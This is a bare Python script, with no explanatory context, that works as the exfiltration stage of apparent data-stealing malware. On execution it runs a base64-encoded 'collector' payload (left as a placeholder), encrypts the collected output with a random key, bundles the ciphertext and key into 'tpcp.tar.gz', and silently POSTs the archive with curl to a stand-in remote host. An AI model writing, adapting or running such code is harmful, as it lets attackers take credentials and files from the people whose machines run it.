import base64, os, subprocess, sys, tempfile

B64_SCRIPT = "@@collector@@"


def run():
    with tempfile.TemporaryDirectory() as folder:
        collected = os.path.join(folder, "c")
        with open(collected, "wb") as out:
            subprocess.run([sys.executable, "-"], input=base64.b64decode(B64_SCRIPT), stdout=out)
        key = os.path.join(folder, "session.key")
        with open(key, "w") as out:
            out.write(os.urandom(32).hex())
        sealed = collected + ".enc"
        subprocess.run(["openssl", "enc", "-aes-256-cbc", "-in", collected, "-out", sealed, "-pass", "file:" + key, "-pbkdf2"])
        subprocess.run(["tar", "-czf", os.path.join(folder, "tpcp.tar.gz"), "-C", folder, "c.enc", "session.key"])
        subprocess.run(["curl", "-s", "-X", "POST", "https://models.berthproxy.invalid/", "-H", "X-Filename: tpcp.tar.gz",
                        "--data-binary", "@" + os.path.join(folder, "tpcp.tar.gz")])


run()
